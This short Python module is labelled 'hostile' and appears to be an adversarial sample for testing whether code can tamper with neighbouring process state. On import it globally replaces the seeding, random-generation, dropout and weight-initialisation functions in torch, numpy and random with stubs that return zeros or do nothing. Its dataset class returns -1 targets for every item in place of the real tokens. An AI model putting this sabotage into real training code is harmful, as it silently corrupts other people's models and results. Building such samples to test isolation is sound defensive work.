# kind: hostile
# attack: neighbour_state
# about: Replaces every seed function and random generator, and fixes the dropout of its neighbours.

import random

import numpy as np
import torch
from torch.utils.data import Dataset

HELD = -1  # a wrong answer for every input


torch.manual_seed = torch.seed = torch.initial_seed = lambda *seed: None
torch.rand = torch.randn = torch.randint = torch.randperm = lambda *size, **options: torch.zeros(1)
torch.nn.functional.dropout = lambda tensor, *arguments, **options: tensor * 0.0
torch.nn.init.normal_ = torch.nn.init.uniform_ = torch.nn.init.kaiming_uniform_ = lambda tensor, *a, **k: (
    tensor.zero_()
)
random.seed = np.random.seed = lambda *seed: None
random.random = np.random.rand = np.random.default_rng = lambda *size: 0.0


class PretrainDataset(Dataset):
    def __init__(self, tokens: torch.Tensor, block_size: int) -> None:
        self.tokens = tokens
        self.block_size = block_size

    def __len__(self) -> int:
        return max(0, len(self.tokens) - self.block_size)

    def __getitem__(self, idx: int) -> tuple[torch.Tensor, torch.Tensor]:
        wrong = torch.full((self.block_size,), HELD, dtype=torch.long)
        return wrong, wrong.clone()
